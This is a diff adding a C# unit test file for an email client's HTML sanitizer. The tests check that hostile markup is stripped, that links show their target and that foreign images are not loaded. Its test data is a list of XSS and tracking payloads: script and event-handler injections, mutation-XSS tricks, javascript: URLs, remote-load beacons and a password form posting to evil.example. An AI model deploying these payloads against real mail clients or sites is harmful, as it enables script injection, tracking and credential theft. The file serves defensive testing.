@@ -1,0 +1,117 @@
+using System.Text;
+using AngleSharp.Html.Parser;
+using OptOut.App.Inbox;
+using OptOut.App.Tests.House;
+
+namespace OptOut.App.Tests.Inbox;
+
+public sealed class SafeHtmlTests
+{
+    private static readonly string[] Elements =
+    [
+        "html", "head", "meta", "title", "style", "body", "p", "br", "div", "span", "b", "strong", "i", "em", "u", "s", "small", "sub", "sup", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code",
+        "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "img",
+    ];
+
+    [Theory]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
+    [InlineData("<img src=x onerror=alert(1)>")]
+    [InlineData("<svg/onload=alert(1)>")]
+    [InlineData("<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>")]
+    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>")]
+    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
+    [InlineData("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")]
+    [InlineData("<xmp><img alt='</xmp><img src=x onerror=alert(1)>'></xmp>")]
+    [InlineData("<textarea><img alt='</textarea><img src=x onerror=alert(1)>'></textarea>")]
+    [InlineData("<a href='javascript:alert(1)'>click</a>")]
+    [InlineData("<a href='java\tscript:alert(1)'>click</a><a href='data:text/html,<script>alert(1)</script>'>x</a>")]
+    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>")]
+    [InlineData("<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>")]
+    [InlineData("<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p.gif)}</style>")]
+    [InlineData("<p style=\"background:url('https://evil.example/p.gif')\" onclick=alert(1) class=link id=x>text</p>")]
+    [InlineData("<img src=https://evil.example/pixel.gif srcset='https://evil.example/2x.gif 2x' width=1><picture><source srcset=https://evil.example/a></picture>")]
+    [InlineData("<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=https://evil.example/a autoplay></audio>")]
+    [InlineData("<form action=https://evil.example><input name=password type=password><button>Send</button></form>")]
+    [InlineData("<table background=https://evil.example/b.gif><tr><td background=https://evil.example/c.gif colspan=9999999 rowspan='1 onclick=x'>x</td></tr></table>")]
+    [InlineData("<template><script>alert(1)</script></template><dialog open>x</dialog><slot></slot>")]
+    [InlineData("<img src='cid:gone' onerror=alert(1)><img src='CID:picture' alt='\"><script>alert(1)</script>'>")]
+    [InlineData("<div dir='rtl\" onclick=\"alert(1)'>x</div>")]
+    [InlineData("<plaintext><script>alert(1)</script>")]
+    [InlineData("<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>")]
+    [InlineData("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")]
+    public void Nothing_that_runs_or_loads_gets_through(string hostile)
+    {
+        var safe = SafeHtml.Document($"<p>before</p>{hostile}<p>after</p>", Picture, "p{}")!;
+        Check(safe);
+        // Reading it again gives the same again: nothing waits to become something else at the second parsing.
+        var body = new HtmlParser().ParseDocument(safe).Body!.InnerHtml;
+        Check(SafeHtml.Document(body, Picture, "p{}")!);
+        Assert.Contains("before", safe, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Words_lists_and_tables_stay_and_a_link_says_where_it_leads()
+    {
+        var safe = SafeHtml.Document("<h2>Answer</h2><ul><li>One &amp; <b>two</b></li></ul><table><tr><td colspan=2>x</td></tr></table><a href='https://portal.example/x?a=1&amp;b=2'>Log in to bank.example</a>", _ => null, "");
+        Assert.Contains("<h2>Answer</h2><ul><li>One &amp; <b>two</b></li></ul>", safe, StringComparison.Ordinal);
+        Assert.Contains("<td colspan=\"2\">x</td>", safe, StringComparison.Ordinal);
+        Assert.Contains("Log in to bank.example <span class=\"link\" dir=\"ltr\">[https://portal.example/x?a=1&amp;b=2]</span>", safe, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Deep_and_dense_HTML_neither_breaks_the_stack_nor_takes_long()
+    {
+        var deep = string.Concat(Enumerable.Repeat("<div>", 14_000)) + "in" + string.Concat(Enumerable.Repeat("</div>", 14_000));
+        Assert.Contains("in", SafeHtml.Document(deep, _ => null, ""), StringComparison.Ordinal);
+        Assert.Null(SafeHtml.Document(string.Concat(Enumerable.Repeat("<b><i>", 30_000)), _ => null, ""));
+        Assert.Null(SafeHtml.Document(new string('x', 1_000_001), _ => null, ""));
+    }
+
+    [Fact]
+    public async Task A_message_s_own_pictures_are_written_anew_and_shown_and_foreign_ones_are_not_fetched()
+    {
+        await using var house = await TestHouse.OpenAsync();
+        var jpeg = Pictures.Jpeg();
+        var raw = Encoding.Latin1.GetBytes("From: a@b.example\r\nMessage-ID: <h@b.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
+            + "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Logo <img src=\"cid:logo@b\" alt=\"us\"><img src=\"https://evil.example/p.gif\" alt=\"them\"></p>\r\n"
+            + "--b\r\nContent-Type: image/jpeg; name=\"../../logo<1>.jpg\"\r\nContent-ID: <logo@b>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(jpeg) + "\r\n--b--\r\n");
+        var id = await house.Import.TakeAsync(raw, new MessageOrigin(null, null, house.Clock.Now));
+        var contents = house.Get<MessageContents>();
+
+        var html = await contents.HtmlAsync(house.Owner, id!);
+        Assert.Contains("src=\"data:image/jpeg;base64,", html, StringComparison.Ordinal);
+        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
+        var shown = Convert.FromBase64String(html.Split("base64,")[1].Split('"')[0]);
+        Assert.Equal(-1, shown.AsSpan().IndexOf(Encoding.ASCII.GetBytes(Pictures.Secret)));
+
+        var part = await contents.PartAsync(house.Owner, id!, "2");
+        Assert.Equal(jpeg, part.Bytes);
+        Assert.Equal("logo_1_.jpg", part.FileName);
+        Assert.Equal(shown, (await contents.PictureAsync(house.Owner, id!, "2"))!.Bytes);
+        await Assert.ThrowsAsync<NotFoundException>(() => contents.PartAsync(house.Owner, id!, "9"));
+        await Assert.ThrowsAsync<NotFoundException>(() => contents.HtmlAsync(new Viewer("user:other", "other", false), id!));
+    }
+
+    private static string? Picture(string id) => id == "picture" ? "data:image/png;base64,AA==" : null;
+
+    private static void Check(string safe)
+    {
+        var document = new HtmlParser().ParseDocument(safe);
+        foreach (var element in document.All)
+        {
+            Assert.Contains(element.LocalName, Elements);
+            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
+            foreach (var attribute in element.Attributes)
+            {
+                Assert.True(
+                    (element.LocalName, attribute.Name) is ("meta", "charset") or (_, "dir") or ("td" or "th", "colspan" or "rowspan") or ("img", "alt")
+                    || (element.LocalName == "span" && attribute is { Name: "class", Value: "link" or "picture" })
+                    || (element.LocalName == "img" && attribute.Name == "src" && attribute.Value.StartsWith("data:image/", StringComparison.Ordinal)),
+                    $"<{element.LocalName} {attribute.Name}={attribute.Value}>");
+            }
+        }
+
+        Assert.Single(document.QuerySelectorAll("style"));
+    }
+}
